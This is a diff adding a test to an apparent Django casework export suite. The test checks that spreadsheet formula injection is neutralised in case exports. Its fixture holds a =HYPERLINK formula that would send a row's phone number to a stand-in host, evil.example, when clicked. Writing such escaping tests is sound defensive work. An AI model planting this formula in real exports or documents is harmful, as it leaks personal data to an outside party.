@@ -196,3 +196,15 @@ def test_figures_export_has_the_same_figures(county_a, known_cases):
     with tenant_context(county_a):
         entry = ExportLog.objects.get(actor__username=f"rep-{StaffRole.AUDITOR}")
     assert (entry.kind, entry.phones_unmasked) == ("figures", False)
+
+
+def test_text_that_looks_like_a_formula_is_exported_as_text(county_a, known_cases):
+    """A citizen's =HYPERLINK(…&L2) would otherwise send the row's full phone number away on one click."""
+    from casework.models import Case
+
+    attack = '=HYPERLINK("http://evil.example/?"&L2,"点击查看")'
+    with tenant_context(county_a):
+        Case.objects.filter(pk=Case.objects.order_by("registered_at").first().pk).update(matter=attack)
+    rows = _sheet_rows(_client(county_a, StaffRole.SUPERVISOR).get("/api/v1/reports/export/cases/", Q1).content)
+    matters = [row[9] for row in rows[1:]]
+    assert f"'{attack}" in matters and not any(str(m).startswith("=") for m in matters)
